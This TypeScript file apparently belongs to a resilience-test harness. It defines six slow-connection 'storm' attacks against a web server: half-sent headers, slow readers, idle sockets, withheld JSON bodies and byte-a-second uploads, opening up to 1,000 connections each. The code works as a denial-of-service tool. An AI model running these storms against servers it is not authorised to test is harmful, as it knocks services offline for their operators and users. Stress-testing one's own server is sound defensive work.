import { setTimeout as sleep } from 'node:timers/promises'
import { type Attack, type Field, hold } from '../attack.ts'
import { headOf, openLine } from '../send.ts'

const LASTS = 12_000

/** Keeps connections open to the end of the storm, whatever the server does. */
async function heldOpen(
  field: Field,
  count: number,
  begin: (turn: number) => string | Buffer,
  drip?: string,
) {
  const lines = Array.from({ length: count }, (_, turn) => {
    const line = openLine(field.target)
    line.write(begin(turn))
    return line
  })
  while (drip !== undefined && performance.now() < field.until) {
    await sleep(1_000)
    for (const line of lines) if (!line.destroyed) line.write(drip)
  }
  await hold(field)
  field.tally.set(0, lines.filter((line) => line.destroyed || line.readableEnded).length)
  for (const line of lines) line.destroy()
}

const slowReaders: Attack = {
  name: '60 readers of films, with 15 requests each, who read nothing',
  kind: 'storm',
  lasts: LASTS,
  shortLasts: 3_000,
  run: (field) =>
    heldOpen(field, 60, () => headOf({ path: field.target.film(), from: field.from }).repeat(15)),
}

const slowHeads: Attack = {
  name: '500 connections with half a head',
  kind: 'storm',
  lasts: LASTS,
  run: (field) => heldOpen(field, 500, () => 'GET / HTTP/1.1\r\nhost: studio.example\r\n', 'x-a: b\r\n'),
}

const idle: Attack = {
  name: '1,000 connections that say nothing',
  kind: 'storm',
  lasts: LASTS,
  run: (field) => heldOpen(field, 1_000, () => ''),
}

/**
 * 400 anonymous bodies with the last byte withheld: of a megabyte, which is refused, and of the size a call
 * accepts.
 */
const slowBodies = (bytes: number): Attack => ({
  name: `400 JSON bodies of ${bytes.toLocaleString('en')} bytes with the last one withheld`,
  kind: 'storm',
  lasts: LASTS,
  run: (field) =>
    heldOpen(field, 400, () => {
      const headers = { 'content-type': 'application/json', 'content-length': String(bytes) }
      const head = headOf({ method: 'POST', path: '/api/User/registration', from: field.from, headers })
      return head + ' '.repeat(bytes - 1)
    }),
})

/** Sends a byte a second for an upload without signing in. */
const drippingUploads: Attack = {
  name: '200 uploads of strangers, a byte a second',
  kind: 'storm',
  lasts: LASTS,
  run: (field) =>
    heldOpen(
      field,
      200,
      () =>
        headOf({
          method: 'PATCH',
          path: '/api/upload/00000000-0000-4000-8000-000000000000',
          from: field.from,
          headers: {
            'tus-resumable': '1.0.0',
            'upload-offset': '0',
            'content-type': 'application/offset+octet-stream',
            'content-length': '10000000',
          },
        }),
      'x',
    ),
}

export const socketStorms: Attack[] = [
  slowReaders,
  slowHeads,
  idle,
  slowBodies(1_000_000),
  slowBodies(8_000),
  drippingUploads,
]
